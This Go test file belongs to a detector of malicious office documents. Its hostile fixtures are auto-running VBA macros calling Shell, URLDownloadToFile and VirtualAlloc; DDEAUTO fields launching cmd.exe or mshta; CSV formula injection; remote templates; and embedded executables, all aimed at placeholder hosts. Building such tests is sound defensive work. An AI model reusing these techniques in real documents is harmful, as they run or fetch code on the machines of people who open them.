package office_test

import (
	"bytes"
	"encoding/binary"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/sekisho/sekisho"
	"github.com/sekisho/sekisho/checkpoint"
	"github.com/sekisho/sekisho/detector/auth"
	detect "github.com/sekisho/sekisho/detector/office"
	"github.com/sekisho/sekisho/judge"
	"github.com/sekisho/sekisho/opener/archive"
	"github.com/sekisho/sekisho/opener/file"
	"github.com/sekisho/sekisho/opener/office"
	"github.com/sekisho/sekisho/opener/text"
	"github.com/sekisho/sekisho/rules"
)

// newCheckpoint judges documents with the rules of documents alone.
func newCheckpoint(t testing.TB) *checkpoint.Checkpoint {
	t.Helper()
	set, err := rules.Load(os.DirFS("../../detector/office"))
	if err != nil {
		t.Fatal(err)
	}
	ruling, err := judge.Compile(set.Rules, set.Conditions, []*sekisho.Detector{detect.Detector, auth.Detector})
	if err != nil {
		t.Fatal(err)
	}
	openers := []*sekisho.Opener{file.Opener, text.Opener, archive.Opener, office.Opener}
	cp, err := checkpoint.New(checkpoint.Config{Openers: openers, Detectors: []*sekisho.Detector{detect.Detector}, Judge: ruling})
	if err != nil {
		t.Fatal(err)
	}
	return cp
}

func inspect(cp *checkpoint.Checkpoint, t testing.TB, name string, data []byte) sekisho.Verdict {
	return cp.Inspect(t.Context(), &sekisho.Artifact{Kind: sekisho.KindFile, Name: name, Blob: bytes.NewReader(data), Size: int64(len(data))})
}

const (
	evilMacro = "Sub AutoOpen()\r\nShell \"c\" & \"alc-no.example\"\r\nEnd Sub\r\n"
	macroRel  = `<Relationships><Relationship Id="r1" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>`
	ddeXML    = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\system32\\</w:instrText></w:r>` +
		`<w:r><w:instrText>cmd.exe "/k none.example"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>!</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	quoteXML = `<w:p><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO </w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 99 109 100</w:instrText>` +
		`<w:fldChar w:fldCharType="end"/><w:instrText> "/c none"</w:instrText><w:fldChar w:fldCharType="end"/></w:p>`
	listener = `<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners>`
	module   = `<script:module script:name="Module1" script:language="StarBasic">Sub Main&#13;&#10;Shell(&quot;none.example&quot;)&#10;End Sub</script:module>`
	odtBody  = `<office:body><office:text><text:p>Plan</text:p></office:text></office:body>`
)

func TestHostile(t *testing.T) {
	t.Parallel()
	cp := newCheckpoint(t)
	template := relations("r1", "attachedTemplate", "https://cdn.example/t.dotm")
	excel4 := `<xm:macrosheet><sheetData><row><c r="A1"><f>EXEC("none.example")</f><v>0</v></c></row></sheetData></xm:macrosheet>`
	xlsb := join(record12(156, join([]byte{2, 0, 0, 0, 1, 0, 0, 0}, wide("r1"), wide("Macro1"))))
	sheet12 := join(record12(0, make([]byte, 17)), record12(8, join(make([]byte, 8), wide(""), []byte{0, 0}, binary.LittleEndian.AppendUint32(nil, 19), []byte{0x17, 6, 0}, utf16z("nocalc"), []byte{0x42, 1, 110, 0})))
	pptMacro := slideRecord(0x0, 0x1011, compound("", project("", evilMacro)...))
	equation := "\x02\xCE\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46"
	tests := []struct {
		name, file string
		data       []byte
		rule       string
		say        string // what the reason quotes
	}{
		{"docm that runs a program", "a.docm", ooxml(t, mainDocm, "word/document.xml", words("x"), "word/vbaProject.bin", vba(evilMacro)), "document-macro-starts-program", "autoopen"},
		{"docm named docx", "a.docx", ooxml(t, mainDocm, "word/vbaProject.bin", vba(evilMacro)), "document-macro-starts-program", "Shell"},
		{"macro project under another name", "a.docm", ooxml(t, mainDocm, "word/printer.bin", vba(evilMacro)), "document-macro-starts-program", "Shell"},
		{"xlsm that runs a program", "a.xlsm", ooxml(t, mainXlsm, "xl/vbaProject.bin", vba("Private Sub Workbook_Open()\r\nCreateObject(\"WScr\" + \"ipt.Shell\").Run x\r\nEnd Sub")), "document-macro-starts-program", "WScript.Shell"},
		{"pptm that runs a program", "a.pptm", ooxml(t, mainPptm, "ppt/vbaProject.bin", vba("Sub OnSlideShowPageChange()\r\nShell x\r\nEnd Sub")), "document-macro-starts-program", "onslideshowpagechange"},
		{"custom ribbon that calls a macro", "a.docm", ooxml(t, mainDocm, "customUI/customUI14.xml", `<customUI onLoad="Begin"/>`, "word/vbaProject.bin", vba("Sub Begin(r)\r\nShell x\r\nEnd Sub")), "document-macro-starts-program", "onLoad Begin"},
		{"macro that downloads", "a.docm", ooxml(t, mainDocm, "word/vbaProject.bin", vba("Declare Function URLDownloadToFileA Lib \"urlmon\" ()\r\nSub Document_Open()\r\nURLDownloadToFileA 0\r\nEnd Sub")), "document-macro-fetches-file", "URLDownloadToFile"},
		{"macro that injects", "a.docm", ooxml(t, mainDocm, "word/vbaProject.bin", vba("Declare Function VirtualAlloc Lib \"kernel32\" ()\r\nSub AutoOpen()\r\nVirtualAlloc 0\r\nEnd Sub")), "document-macro-injects", "VirtualAlloc"},
		{"macro that waits for a click", "a.docm", ooxml(t, mainDocm, "word/vbaProject.bin", vba("Sub Go()\r\nShell x\r\nEnd Sub")), "document-macro-calls", "Shell"},
		{"macro without source", "a.docm", ooxml(t, mainDocm, "word/vbaProject.bin", string(compound("", entry{"VBA/dir", compressed("x")}, entry{"VBA/_VBA_PROJECT", []byte("compiled")}))), "document-macro-without-source", "source"},
		{"doc with a macro", "a.doc", compound("", append(wordBinary("Plan", ""), project("Macros/", evilMacro)...)...), "document-macro-starts-program", "autoopen"},
		{"xls with a macro", "a.xls", compound("", append(project("_VBA_PROJECT_CUR/", evilMacro), entry{"Workbook", biff(0x809, 0, 6, 5, 0)})...), "document-macro-starts-program", "autoopen"},
		{"ppt with a macro", "a.ppt", compound("", entry{"PowerPoint Document", pptMacro}), "document-macro-starts-program", "autoopen"},
		{"excel 4 macro", "a.xlsm", ooxml(t, mainXlsm, "xl/workbook.xml", `<workbook><sheets><sheet name="M" state="veryHidden" r:id="r1"/></sheets></workbook>`, "xl/_rels/workbook.xml.rels", macroRel, "xl/macrosheets/sheet1.xml", excel4), "document-excel4-starts-program", "EXEC"},
		{"excel 4 macro on a hidden sheet", "a.xlsm", ooxml(t, mainXlsm, "xl/workbook.xml", `<workbook><sheets><sheet name="M" state="veryHidden" r:id="r1"/></sheets></workbook>`, "xl/_rels/workbook.xml.rels", macroRel, "xl/macrosheets/sheet1.xml", `<c r="A1"><f>HALT()</f></c>`), "document-excel4", "hidden sheet"},
		{"excel 4 macro in xls", "a.xls", compound("", entry{"Workbook", macroBook()}), "document-excel4-starts-program", "EXEC"},
		{"excel 4 macro in xlsb", "a.xlsb", ooxml(t, mainXlsb, "xl/workbook.bin", string(xlsb), "xl/_rels/workbook.bin.rels", macroRel, "xl/macrosheets/sheet1.bin", string(sheet12)), "document-excel4-starts-program", "EXEC"},
		{"dde in pieces", "a.docx", ooxml(t, mainWord, "word/document.xml", ddeXML), "document-dde-program", "cmd.exe"},
		{"dde spelt by codes", "a.docx", ooxml(t, mainWord, "word/document.xml", quoteXML), "document-dde-program", "cmd"},
		{"dde in a simple field", "a.docx", ooxml(t, mainWord, "word/header1.xml", `<w:fldSimple w:instr="DDEAUTO mshta none.example"/>`), "document-dde-program", "mshta"},
		{"dde link of a workbook", "a.xlsx", ooxml(t, mainSheet, "xl/externalLinks/externalLink1.xml", `<ddeLink ddeService="cmd" ddeTopic="/c none"/>`), "document-dde-program", "cmd"},
		{"dde in doc", "a.doc", compound("", wordBinary("a\x13 DDEAUTO cmd.exe \"/c none\" \x14!\x15", "")...), "document-dde-program", "cmd.exe"},
		{"dde in xls", "a.xls", compound("", entry{"Workbook", join(biff(0x809, 0, 6, 5, 0), biff(0x1AE, append([]byte{1, 0, 11, 0, 0}, "cmd\x03/c none"...)...))}), "document-dde-program", "cmd"},
		{"dde in rtf", "a.rtf", []byte(`{\rtf1{\field{\*\fldinst {DDE}{AUTO }{cmd "/c none"}}{\fldrslt !}}}`), "document-dde-program", "cmd"},
		{"dde in a spreadsheet of OpenDocument", "a.ods", odf(t, "spreadsheet", "content.xml", `<office:body><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c none&quot;;&quot;x&quot;)"/></office:body>`), "document-dde-program", "cmd"},
		{"remote template", "a.docx", ooxml(t, mainWord, "word/document.xml", words("x"), "word/_rels/settings.xml.rels", template), "document-remote-template", "https://cdn.example/t.dotm"},
		{"remote template in doc", "a.doc", compound("", wordBinary("Plan", "http://cdn.example/t.dot")...), "document-remote-template", "http://cdn.example/t.dot"},
		{"remote template in rtf", "a.rtf", []byte(`{\rtf1{\*\template http://cdn.example/t.dot}x}`), "document-remote-template", "http://cdn.example/t.dot"},
		{"remote template spelt by codes", "a.rtf", []byte(`{\rtf1{\*\template h\'74tp://cdn.e\u120?ample/t}x}`), "document-remote-template", "http://cdn.example/t"},
		{"page as an object", "a.docx", ooxml(t, mainWord, "word/_rels/document.xml.rels", relations("r1", "oleObject", "mhtml:https://cdn.example/x.html!x-usc:https://cdn.example/x.html")), "document-remote-script", "cdn.example"},
		{"linked object", "a.docx", ooxml(t, mainWord, "word/_rels/document.xml.rels", relations("r1", "oleObject", "https://cdn.example/x.doc")), "document-remote-object", "cdn.example"},
		{"linked object in rtf", "a.rtf", []byte(`{\rtf1{\object\objautlink\objupdate{\*\objdata ` + ole1("OLE2Link", 2, "", compound("", entry{"\x01Ole", urlLink("http://cdn.example/x.hta")})) + `}}}`), "document-remote-script", "x.hta"},
		{"frame from elsewhere", "a.docx", ooxml(t, mainWord, "word/_rels/webSettings.xml.rels", relations("r1", "frame", "https://cdn.example/x")), "document-remote-object", "cdn.example"},
		{"picture on a share", "a.docx", ooxml(t, mainWord, "word/_rels/document.xml.rels", relations("r1", "image", `file://203.0.113.7/a/b.png`)), "document-opens-share", "203.0.113.7"},
		{"picture field on a share", "a.rtf", []byte(`{\rtf1{\field{\*\fldinst INCLUDEPICTURE "\\\\\\\\203.0.113.7\\\\a.png"}}}`), "document-opens-share", "203.0.113.7"},
		{"text from elsewhere in OpenDocument", "a.odt", odf(t, "text", "content.xml", `<text:section-source xlink:href="https://cdn.example/x.odt"/>`), "document-remote-object", "cdn.example"},
		{"macro of OpenDocument", "a.odt", odf(t, "text", "content.xml", listener+odtBody, "Basic/Standard/Module1.xml", module), "document-macro-starts-program", "Shell"},
		{"script of OpenDocument", "a.odt", odf(t, "text", "content.xml", listener+odtBody, "Scripts/python/a.py", "import subprocess"), "document-macro-starts-program", "subprocess"},
		{"packaged script", "a.docx", ooxml(t, mainWord, "word/embeddings/oleObject1.bin", string(compound("", entry{"\x01Ole10Native", native("plan.js", "none")}))), "document-holds-program", "plan.js"},
		{"packaged program in rtf", "a.rtf", []byte(`{\rtf1{\object\objemb{\*\objdata ` + ole1("Package", 2, "", native("plan.exe", "MZ")[4:]) + `}}}`), "document-holds-program", "plan.exe"},
		{"packaged program in split digits", "a.rtf", []byte(`{\rtf1{\object{\*\objdata {\*\none 99}` + strings.ReplaceAll(ole1("Package", 2, "", native("plan.exe", "MZ")[4:]), "\r\n", "\r\n {\\*\\x 1}\t") + `}}}`), "document-holds-program", "plan.exe"},
		{"packaged shortcut in doc", "a.doc", compound("", append(wordBinary("Plan", ""), entry{"ObjectPool/_1/\x01Ole10Native", native("plan.lnk", "none")})...), "document-holds-program", "plan.lnk"},
		{"packaged program in OpenDocument", "a.odt", odf(t, "text", "content.xml", odtBody, "Object 1", string(compound("", entry{"\x01Ole10Native", native("plan.scr", "MZ")}))), "document-holds-program", "plan.scr"},
		{"program behind a picture of OneNote", "a.one", oneNote("invoice.hta", "none"), "document-holds-program", "invoice.hta"},
		{"equation in rtf", "a.rtf", []byte(`{\rtf1{\object\objemb{\*\objclass Equation.3}{\*\objdata ` + ole1("Equation.3", 2, "", []byte("x")) + `}}}`), "document-equation", "equation editor"},
		{"equation by its class", "a.rtf", []byte(`{\rtf1{\object{\*\objdata ` + ole1("None", 2, "", compound(equation, entry{"x", []byte("x")})) + `}}}`), "document-equation", "equation editor"},
		{"equation in docx", "a.docx", ooxml(t, mainWord, "word/embeddings/oleObject1.bin", string(compound("", entry{"Equation Native", []byte("x")}))), "document-equation", "equation editor"},
		{"browser as a control", "a.docx", ooxml(t, mainWord, "word/activeX/activeX1.xml", `<ax:ocx ax:classid="{EAB22AC3-30C1-11CF-A7EB-0000C05BAE0B}"/>`), "document-browser-object", "eab22ac3"},
		{"program behind a shape", "a.pptx", ooxml(t, mainSlide, "ppt/slides/slide1.xml", `<a:hlinkMouseOver r:id="r1" action="ppaction://program"/>`, "ppt/slides/_rels/slide1.xml.rels", relations("r1", "hyperlink", "file:///none.exe")), "document-handler-starts", "none.exe"},
		{"table that starts a program", "a.csv", []byte("a,b\n1,=cmd|'/c none'!A1\n"), "csv-starts-program", "cmd|"},
		{"table that starts a program behind a plus", "a.csv", []byte("a;b\n\"+1+1+cmd|'/c none'!A1\";2\n"), "csv-starts-program", "cmd|"},
		{"xls with the default password", "a.xls", compound("", entry{"Workbook", lockWorkbook(macroBook())}), "document-excel4-starts-program", "EXEC"},
		{"xlsx with the default password, standard", "a.xlsx", lockStandard(ooxml(t, mainSheet, "xl/externalLinks/externalLink1.xml", `<ddeLink ddeService="cmd" ddeTopic="/c none"/>`)), "document-default-password", "encrypted"},
		{"xlsx with the default password, agile", "a.xlsx", lockAgile(ooxml(t, mainSheet, "xl/externalLinks/externalLink1.xml", `<ddeLink ddeService="cmd" ddeTopic="/c none"/>`)), "document-dde-program", "cmd"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			verdict := inspect(cp, t, tt.file, tt.data)
			i := slices.IndexFunc(verdict.Findings, func(f sekisho.Finding) bool { return f.Rule == tt.rule })
			if i < 0 {
				t.Fatalf("findings %v, gaps %v", verdict.Findings, verdict.Gaps)
			}
			if f := verdict.Findings[i]; f.Ask < sekisho.ActionWarn || !strings.Contains(f.Why.En, tt.say) {
				t.Errorf("%s: %q, want it to quote %q", f.Ask, f.Why.En, tt.say)
			}
		})
	}
}

func TestHonest(t *testing.T) {
	t.Parallel()
	cp := newCheckpoint(t)
	link := relations("r1", "hyperlink", "https://www.kaede-ex.jp/", "r2", "image", "https://www.kaede-ex.jp/logo.png", "r3", "attachedTemplate", `file:///C:\Users\a\t.dotx`)
	tests := []struct {
		name, file string
		data       []byte
		most       sekisho.Action
	}{
		{"letter", "a.docx", ooxml(t, mainWord, "word/document.xml", words("Please run cmd.exe /c dir."), "word/_rels/document.xml.rels", link), sekisho.ActionPass},
		{"table with hidden sheets", "a.xlsx", ooxml(t, mainSheet, "xl/workbook.xml", `<workbook><sheet name="a" state="veryHidden"/></workbook>`, "xl/worksheets/sheet1.xml", `<c r="A1"><f>SUM(B1:B2)</f></c>`), sekisho.ActionPass},
		{"macro that formats", "a.xlsm", ooxml(t, mainXlsm, "xl/vbaProject.bin", vba("Sub Workbook_Open()\r\n' Shell is not called\r\nRange(\"A1\").Font.Bold = True\r\nEnd Sub")), sekisho.ActionNote},
		{"doc with fields", "a.doc", compound("", wordBinary("\x13 PAGE \x141\x15 \x13 HYPERLINK \"https://www.kaede-ex.jp/\" \x14us\x15", "Normal.dot")...), sekisho.ActionPass},
		{"workbook inside", "a.docx", ooxml(t, mainWord, "word/embeddings/plan.xlsx", string(ooxml(t, mainSheet, "xl/workbook.xml", "<workbook/>"))), sekisho.ActionPass},
		{"template on a server of the house", "a.docx", ooxml(t, mainWord, "word/_rels/settings.xml.rels", relations("r1", "attachedTemplate", `file:///\\fileserver\share\t.dotx`)), sekisho.ActionPass},
		{"numbers and names", "a.csv", []byte("a,-5,+81-3-0000-0000,@mori,=SUM(A1:A2)\n\"=1+1\",x|y,\"-a!\"\n"), sekisho.ActionPass},
		{"rtf", "a.rtf", []byte(`{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\generator x}Plan\par {\field{\*\fldinst HYPERLINK "https://www.kaede-ex.jp/"}{\fldrslt us}}}`), sekisho.ActionPass},
		{"odt", "a.odt", odf(t, "text", "content.xml", odtBody, "styles.xml", "<x/>", "Basic/script-lc.xml", "<x/>", "Configurations2/a.xml", "x"), sekisho.ActionPass},
		{"note", "a.one", oneNote("plan.pdf", "%PDF"), sekisho.ActionPass},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if verdict := inspect(cp, t, tt.file, tt.data); verdict.Action > tt.most || len(verdict.Gaps) > 0 {
				t.Errorf("%s: %v, gaps %v", verdict.Action, verdict.Findings, verdict.Gaps)
			}
		})
	}
}
